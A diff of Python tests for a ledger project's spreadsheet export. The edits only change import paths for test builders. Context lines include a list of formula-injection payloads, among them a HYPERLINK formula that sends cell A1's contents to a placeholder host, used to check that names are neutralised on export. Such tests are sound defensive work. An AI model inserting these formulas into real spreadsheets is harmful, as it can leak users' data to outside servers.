@@ -20,7 +20,7 @@ from ledger.registry.schemas import RegistryImported
 from ledger.registry import service as registry
 from ledger.registry.models import Household, Person
 from ledger.sheets import tabular
-from tests.test_registry_support import make_world
+from tests.builders.registry import make_world
 
 FIXTURES = Path(__file__).parent / "fixtures" / "sheets"
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1+1", "-2+3", "@SUM(1)",
@@ -90,8 +90,8 @@ def test_export_with_formula_like_names_imports_back_unchanged(db, tmp_path):
 
 def test_village_year_export_neutralises_names(db, tmp_path):
     from ledger.recognition import tasks
-    from tests.test_recognition_support import award
-    from tests.test_recognition_support import make_world as recognition_world
+    from tests.builders.recognition import award
+    from tests.builders.recognition import make_world as recognition_world
     w = recognition_world(db, people=2, households=1)
     with db.transaction() as s:
         s.get(Person, w.people[0]).name = "=HYPERLINK(\"http://x.example\")"
